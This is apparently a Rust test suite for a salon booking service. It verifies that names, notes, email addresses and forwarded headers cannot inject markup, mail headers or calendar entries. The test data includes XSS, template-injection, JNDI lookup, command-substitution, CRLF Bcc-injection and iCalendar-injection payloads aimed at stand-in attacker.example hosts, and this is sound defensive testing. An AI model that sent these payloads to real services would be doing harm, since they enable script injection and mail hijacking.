//! Texts that mean something to whatever shows them: a mail's headers and HTML, a calendar, a page, a template.

use calcard::icalendar::{ICalendar, ICalendarProperty};
use chairbook_local::mailbox::Mail;
use chairbook_models::user::Role;
use chairbook_tests::{Actor, Json, TestStack};
use reqwest::Method;
use serde_json::json;

const CUT: &str = "svc_00000000000000000000000001";

/// Texts on one line that nobody can forbid, since somebody may be called so.
const NAMES: [&str; 10] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</td></table><a href=\"https://attacker.example\">",
    "{{7*7}} {% include '/etc/passwd' %} <%= 7*7 %>",
    "${jndi:ldap://attacker.example/x} #{7*7} $(id)",
    "Ada, <victim@attacker.example>",
    "Ada\";X-INJECTED=\"1\":mailto:victim@attacker.example",
    "Ada\\nEND:VEVENT\\nBEGIN:VEVENT\\;",
    "=?utf-8?q?Bcc:_victim=40attacker.example?=",
    "%0d%0aBcc:%20victim@attacker.example",
];

/// Texts that would begin another line wherever they stand.
const BREAKS: [&str; 7] = [
    "Ada\r\nBcc: victim@attacker.example",
    "Ada\nBcc: victim@attacker.example",
    "Ada\rBcc: victim@attacker.example",
    "Ada\u{2028}Bcc: victim@attacker.example",
    "Ada\u{85}Bcc: victim@attacker.example",
    "Ada\u{b}Bcc: victim@attacker.example",
    "Ada\u{0}",
];

/// More than one line, as notes may have.
const NOTES: [&str; 3] = [
    "Bis bald\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil@attacker.example\r\nSUMMARY:Evil\r\nEND:VEVENT",
    "Bis bald\nATTENDEE:mailto:victim@attacker.example\n ATTACH:https://attacker.example/x\n;BEGIN:VALARM",
    "<script>alert(1)</script>\n{{7*7}}\n</body></html>",
];

/// Nothing of a mail is anything but what it should be, whatever somebody is called or has written.
fn assert_harmless(mail: &Mail, to: &Actor, what: &str) {
    assert_eq!(mail.to, std::slice::from_ref(&to.email), "{what}");
    assert!(mail.cc.is_empty() && mail.bcc.is_empty() && mail.reply_to.is_empty(), "{what}: {mail:?}");
    assert!(mail.from.ends_with("<bookings@chairbook.example>"), "{what}: {}", mail.from);
    assert!(!mail.subject.contains(['\r', '\n']), "{what}: {}", mail.subject);
    let html = mail.html.as_deref().unwrap();
    // The templates have none of these; what was written shows as text.
    for tag in ["<script", "<img", "onerror=alert(1)>", "<iframe", "attacker.example\">"] {
        assert!(!html.contains(tag), "{what}: {html}");
    }
    assert_eq!(html.matches("</body>").count(), 1, "{what}: {html}");
    for file in &mail.attachments {
        assert_calendar(std::str::from_utf8(&file.content).unwrap(), what);
    }
}

/// One entry, with nothing in it that the salon has not put there.
fn assert_calendar(text: &str, what: &str) {
    let calendar = ICalendar::parse(text).unwrap_or_else(|entry| panic!("{what}: {entry:?} in {text}"));
    assert_eq!(calendar.components.len(), 2, "{what}: {text}");
    let of_event = &calendar.components[1].entries;
    let count = |name: &ICalendarProperty| of_event.iter().filter(|entry| entry.name == *name).count();
    for name in [
        ICalendarProperty::Uid,
        ICalendarProperty::Summary,
        ICalendarProperty::Description,
        ICalendarProperty::Attendee,
        ICalendarProperty::Organizer,
        ICalendarProperty::Dtstart,
    ] {
        assert_eq!(count(&name), 1, "{what}: {name:?} in {text}");
    }
    assert_eq!(count(&ICalendarProperty::Attach), 0, "{what}: {text}");
    let unfolded = text.replace("\r\n ", "");
    let lines: Vec<_> = unfolded.split("\r\n").collect();
    assert!(lines.iter().all(|line| !line.contains(['\r', '\n'])), "{what}: {text}");
    for line in lines {
        let name = line.split([':', ';']).next().unwrap();
        assert!(!name.contains("INJECTED") && name != "Bcc", "{what}: {line}");
        if name == "ATTENDEE" {
            // Between quotation marks is a name, which may be anything.
            let unquoted: String = line.split('"').step_by(2).collect();
            assert!(!unquoted.contains("victim") && !unquoted.contains("INJECTED"), "{what}: {line}");
        }
    }
}

async fn book(customer: &Actor, service: &str, notes: &str) -> Json {
    let free = customer.later_availability(&format!("serviceId={service}")).await;
    let (date, time, _) = free.last().unwrap();
    let order = json!({"serviceId": service, "date": date, "time": time, "notes": notes});
    customer.book(order).await.data(201)["appointment"].clone()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_people_write_is_text_wherever_it_is_shown() {
    let stack = TestStack::start().await;
    let admin = stack.demo_account(Role::Admin).await;
    line_breaks(&stack, &admin).await;
    names_and_notes(&stack, &admin).await;
    pages(&stack).await;
    links(&stack).await;
    stack.finish().await;
}

/// Where one line is asked for, there is no second.
async fn line_breaks(stack: &TestStack, admin: &Actor) {
    let (visitor, ada) = (stack.visitor(), stack.customer().await);
    let service = json!({"categoryId": "cat_00000000000000000000000001", "price": 1, "durationMinutes": 30});
    let mut settings = admin.get("/settings").await.data(200)["settings"].to_value();
    for text in BREAKS {
        assert_eq!(visitor.register(text).await.fields(400, "validation_failed"), ["name"], "{text:?}");
        let answer = ada.put("/profile", json!({"name": text})).await;
        assert_eq!(answer.fields(400, "validation_failed"), ["name"], "{text:?}");
        let mut named = service.clone();
        named["name"] = json!(text);
        assert_eq!(
            admin.post("/services", named).await.fields(400, "validation_failed"),
            ["name"],
            "{text:?}"
        );
        let expert = json!({"name": text, "title": text});
        assert_eq!(admin.post("/experts", expert).await.fields(400, "validation_failed"), ["name", "title"]);
        settings["salonName"] = json!(text);
        let answer = admin.put("/settings", settings.clone()).await;
        assert_eq!(answer.fields(400, "validation_failed"), ["salonName"], "{text:?}");
        let image = json!({"imageUrl": "https://salon.example/x.jpg", "caption": text, "serviceId": CUT});
        assert_eq!(admin.post("/gallery", image).await.fields(400, "validation_failed"), ["caption"]);
        let off = json!({"from": "2030-03-02T09:00", "to": "2030-03-03T09:00", "reason": text});
        let answer = admin.post("/experts/exp_00000000000000000000000001/time-off", off).await;
        assert_eq!(answer.fields(400, "validation_failed"), ["reason"], "{text:?}");
        // An address is one, too.
        let email = format!("{}@guests.example", text.replace(' ', ""));
        let answer = visitor.post("/auth/forgot-password", json!({"email": email})).await;
        assert_eq!(answer.fields(400, "validation_failed"), ["email"], "{text:?}");
    }
    for email in [
        "ada@guests.example,victim@attacker.example",
        "ada@guests.example;victim@attacker.example",
        "Ada <ada@guests.example>",
        "<ada@guests.example>",
        "\"ada@guests.example\"@attacker.example",
        "ada@guests.example\u{0}@attacker.example",
        "\u{430}da@guests.example",
        "ada@[127.0.0.1]",
        "ada@guests.example%0aBcc:victim@attacker.example",
    ] {
        let answer = visitor.post("/auth/forgot-password", json!({"email": email})).await;
        assert_eq!(answer.fields(400, "validation_failed"), ["email"], "{email:?}");
    }
    for scheme in
        ["javascript:alert(1)", "data:text/html,<script>", "file:///etc/passwd", "//attacker.example"]
    {
        let answer = admin.post("/gallery", json!({"imageUrl": scheme, "serviceId": CUT})).await;
        assert_eq!(answer.fields(400, "validation_failed"), ["imageUrl"], "{scheme}");
    }
}

async fn names_and_notes(stack: &TestStack, admin: &Actor) {
    let mut ada = stack.customer().await;
    let of_service =
        admin.get(&format!("/services/{CUT}?includeInactive=true")).await.data(200)["service"].clone();
    stack.settle().await;
    let mut seen = stack.mails(&ada.email).len();
    for (place, name) in NAMES.into_iter().enumerate() {
        let refused = ada.put("/profile", json!({"name": name})).await;
        // One that a mail program would decode is refused for that.
        if refused.status == 400 {
            assert_eq!(refused.fields(400, "validation_failed"), ["name"], "{name}");
            continue;
        }
        assert_eq!(refused.data(200)["user"]["name"], name);
        let service = json!({
            "categoryId": of_service["categoryId"], "name": name, "price": 1, "durationMinutes": 30
        });
        let made = admin.put(&format!("/services/{CUT}"), service).await;
        made.data(200);
        let notes = NOTES[place % NOTES.len()];
        let appointment = book(&ada, CUT, notes).await;
        let path = format!("/appointments/{}", appointment["id"].as_str().unwrap());
        let file = ada.get(&format!("{path}/calendar.ics")).await;
        assert_eq!(file.status, 200, "{name}: {}", file.text);
        assert_calendar(&file.text, name);
        ada.delete(&format!("{path}/cancel")).await.data(200);
        stack.settle().await;
        let mails = stack.mails(&ada.email);
        assert!(mails.len() > seen, "{name}");
        for mail in &mails[..mails.len() - seen] {
            assert_harmless(mail, &ada, name);
            // Long lines are broken between words.
            let text = mail.text.as_deref().unwrap().split_whitespace().collect::<Vec<_>>().join(" ");
            assert!(text.contains(name), "{name} is not in {text}");
        }
        seen = mails.len();
    }
    // The mail that a stranger gets for a registration shows nothing that was written.
    for name in NAMES {
        ada = stack.visitor();
        if ada.register(name).await.status == 201 {
            let mail = stack.mail(&ada.email, "Confirm your e-mail address").await;
            assert_harmless(&mail, &ada, name);
            let shown = format!("{} {}", mail.text.as_deref().unwrap(), mail.html.as_deref().unwrap());
            assert!(!shown.contains("attacker") && !shown.contains("alert(1)"), "{name}: {shown}");
            stack.verification_token(&ada).await;
        }
    }
}

/// Pages show nothing of their path, and let nothing run but their own.
async fn pages(stack: &TestStack) {
    let visitor = stack.visitor();
    for token in [
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "%7B%7B7*7%7D%7D",
        "javascript:alert(1)",
        "%0d%0aSet-Cookie:%20a=b",
    ] {
        for page in ["verify-email", "reset-password"] {
            let request = visitor.request(Method::GET, &format!("/auth/{page}/{token}"));
            let answer = visitor.send(request.header("accept", "text/html")).await;
            assert!(answer.header("content-type").starts_with("text/html"), "{page} {token}");
            for text in ["alert(1)", "onerror", "{{7*7}}", "%7B%7B", "Set-Cookie"] {
                assert!(!answer.text.contains(text), "{page} {token}: {}", answer.text);
            }
            let policy = answer.header("content-security-policy");
            assert!(
                policy.contains("default-src 'none'") && !policy.contains("unsafe-inline"),
                "{page}: {policy}"
            );
            assert!(policy.contains("frame-ancestors 'none'"), "{page}: {policy}");
            assert_eq!(answer.header("x-content-type-options"), "nosniff");
            assert_eq!(answer.header("referrer-policy"), "no-referrer");
            assert_eq!((answer.header("set-cookie"), answer.header("location")), ("", ""));
        }
    }
    // What is refused by its name comes back as data, which nothing shows as a page.
    let name = "<script>alert(1)</script>";
    let answer = visitor.post("/auth/login", json!({name: 1})).await;
    assert!(answer.header("content-type").starts_with("application/json"));
    assert_eq!(answer.header("x-content-type-options"), "nosniff");
    let answer = visitor.get("/services?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E").await;
    assert!(answer.header("content-type").starts_with("application/json"));
}

/// Links in mails, and places in headers, are the salon's, whatever host a request says that it is for.
async fn links(stack: &TestStack) {
    for (name, value) in [
        ("x-forwarded-host", "attacker.example"),
        ("x-forwarded-server", "attacker.example"),
        ("x-forwarded-prefix", "//attacker.example"),
        ("x-original-url", "https://attacker.example/"),
        ("forwarded", "host=attacker.example;proto=https"),
        ("origin", "https://attacker.example"),
        ("referer", "https://attacker.example/?"),
    ] {
        // Each kind of mail goes to an address a few times an hour only.
        let ada = stack.customer().await;
        let ask = ada.request(Method::POST, "/auth/forgot-password").header(name, value);
        ada.send(ask.json(&json!({"email": ada.email}))).await.data(200);
        let mail = stack.mail(&ada.email, "Reset your password").await;
        let text = format!("{} {}", mail.text.as_deref().unwrap(), mail.html.as_deref().unwrap());
        assert!(!text.contains("attacker.example"), "{name}: {text}");
        let token =
            text.split("/auth/reset-password/").nth(1).unwrap().split(['"', ' ', '\r', '\n', '<']).next();
        stack.keep_secret([token.unwrap().to_owned()]);
        let free = ada.later_availability(&format!("serviceId={CUT}")).await;
        let (date, time, _) = free.last().unwrap();
        let order = json!({"serviceId": CUT, "date": date, "time": time});
        let booked =
            ada.send(ada.request(Method::POST, "/appointments").header(name, value).json(&order)).await;
        booked.data(201);
        assert!(
            booked.header("location").starts_with("/api/v1/appointments/apt_"),
            "{}",
            booked.header("location")
        );
    }
}
